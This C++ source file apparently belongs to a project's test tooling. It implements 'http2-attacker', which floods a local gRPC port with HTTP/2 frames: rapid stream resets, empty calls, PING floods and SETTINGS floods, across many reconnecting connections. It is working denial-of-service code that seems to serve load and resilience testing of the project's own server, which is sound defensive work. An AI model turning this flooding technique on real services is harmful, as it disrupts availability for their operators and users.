// SPDX-License-Identifier: Apache-2.0
// http2-attacker: floods a gRPC port with HTTP/2 frames from several connections. A connection that the server ends is
// opened again at once.
//   http2-attacker PORT CONNECTIONS SECONDS reset|call|ping|settings [--method PATH] [--token TOKEN]
//                  [--deaf]
// reset: calls that are reset at once, of GetStatus unless --method names another; call: the same calls with an empty
// message and without the reset. ping, settings: frames that the server must acknowledge.
// --deaf: reads nothing. Prints how many frames it has sent and how many connections it has opened.
#include <fcntl.h>
#include <poll.h>
#include <sys/socket.h>

#include <atomic>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <thread>
#include <vector>

#include "tests/testing/loopback.h"

namespace skein {
namespace {

using Clock = std::chrono::steady_clock;

struct Attack {
  int port = 0;
  std::string kind;
  std::string method = "/skein.v1.Coordinator/GetStatus";
  std::string token;
  bool deaf = false;
  Clock::time_point end;
};

struct Totals {
  std::atomic<uint64_t> frames{0};
  std::atomic<uint64_t> connections{0};
};

void AppendNumber(std::string* out, uint32_t value, int bytes) {
  for (int shift = 8 * (bytes - 1); shift >= 0; shift -= 8) out->push_back(static_cast<char>(value >> shift));
}

// RFC 9113, section 4.1.
void AppendFrame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
  AppendNumber(out, static_cast<uint32_t>(payload.size()), 3);
  AppendNumber(out, type, 1);
  AppendNumber(out, flags, 1);
  AppendNumber(out, stream, 4);
  out->append(payload);
}

// RFC 7541, section 6.2.2: a literal header field without indexing, its name from the static table or new. Texts have
// fewer than 127 bytes.
std::string Field(const std::string& name, const std::string& value) {
  return name + static_cast<char>(value.size()) + value;
}

std::string CallHeaders(const std::string& method, const std::string& token) {
  std::string headers("\x83\x86", 2);  // :method POST, :scheme http.
  headers += Field("\x04", method);
  headers += Field("\x01", "localhost");
  headers += Field("\x0f\x10", "application/grpc");
  headers += Field(std::string("\x00\x02te", 4), "trailers");
  if (!token.empty()) headers += Field("\x0f\x08", "Bearer " + token);
  return headers;
}

constexpr uint8_t kData = 0, kHeaders = 1, kReset = 3, kSettings = 4, kPing = 6;
constexpr uint8_t kEndStream = 1, kEndHeaders = 4;
constexpr int kFramesAtOnce = 100;

// Sends all of `bytes`; meanwhile it reads what comes, unless it is deaf. False: the connection has ended.
bool SendAll(int fd, const std::string& bytes, const Attack& attack) {
  size_t sent = 0;
  char read[1 << 16];
  while (sent < bytes.size()) {
    pollfd polled = {fd, static_cast<short>(attack.deaf ? POLLOUT : POLLOUT | POLLIN), 0};
    if (Clock::now() >= attack.end) return false;
    if (poll(&polled, 1, 100) <= 0) continue;
    if ((polled.revents & (POLLERR | POLLHUP)) != 0) return false;
    if ((polled.revents & POLLIN) != 0 && recv(fd, read, sizeof(read), 0) <= 0) return false;
    if ((polled.revents & POLLOUT) == 0) continue;
    const ssize_t some = send(fd, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
    if (some < 0 && errno != EAGAIN) return false;
    if (some > 0) sent += static_cast<size_t>(some);
  }
  return true;
}

void AppendFrames(std::string* out, const Attack& attack, const std::string& headers, uint32_t* stream) {
  for (int i = 0; i < kFramesAtOnce; ++i) {
    if (attack.kind == "ping") {
      AppendFrame(out, kPing, 0, 0, "12345678");
    } else if (attack.kind == "settings") {
      AppendFrame(out, kSettings, 0, 0, "");
    } else {
      AppendFrame(out, kHeaders, kEndHeaders, *stream, headers);
      if (attack.kind == "call") {
        AppendFrame(out, kData, kEndStream, *stream, std::string(5, '\0'));  // Not compressed, of no bytes.
      } else {
        AppendFrame(out, kReset, 0, *stream, std::string("\0\0\0\x08", 4));  // CANCEL.
      }
      *stream += 2;
    }
  }
}

void Run(const Attack& attack, Totals* totals) {
  const std::string headers = CallHeaders(attack.method, attack.token);
  while (Clock::now() < attack.end) {
    const int fd = ConnectTo(attack.port);
    if (fd < 0) {
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
      continue;
    }
    fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
    ++totals->connections;
    std::string bytes = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    AppendFrame(&bytes, kSettings, 0, 0, "");
    uint32_t stream = 1;
    do {
      AppendFrames(&bytes, attack, headers, &stream);
      if (!SendAll(fd, bytes, attack)) break;
      totals->frames += kFramesAtOnce;
      bytes.clear();
    } while (Clock::now() < attack.end && stream < uint32_t{1} << 30);
    close(fd);
  }
}

int Main(const std::vector<std::string>& arguments) {
  if (arguments.size() < 4) {
    std::fprintf(stderr, "usage: http2-attacker PORT CONNECTIONS SECONDS KIND [...]; see http2_attacker.cc\n");
    return 64;
  }
  Attack attack;
  attack.port = std::atoi(arguments[0].c_str());
  attack.end = Clock::now() + std::chrono::milliseconds(static_cast<int>(1000 * std::atof(arguments[2].c_str())));
  attack.kind = arguments[3];
  for (size_t i = 4; i < arguments.size(); ++i) {
    if (arguments[i] == "--deaf") attack.deaf = true;
    if (arguments[i] == "--method" && i + 1 < arguments.size()) attack.method = arguments[++i];
    if (arguments[i] == "--token" && i + 1 < arguments.size()) attack.token = arguments[++i];
  }
  Totals totals;
  std::vector<std::thread> threads;
  for (int i = 0; i < std::atoi(arguments[1].c_str()); ++i) {
    threads.emplace_back([&] { Run(attack, &totals); });
  }
  for (std::thread& thread : threads) thread.join();
  std::printf("sent %lu frames over %lu connections\n", static_cast<unsigned long>(totals.frames),
              static_cast<unsigned long>(totals.connections));
  return 0;
}

}  // namespace
}  // namespace skein

int main(int argc, char** argv) { return skein::Main({argv + 1, argv + argc}); }
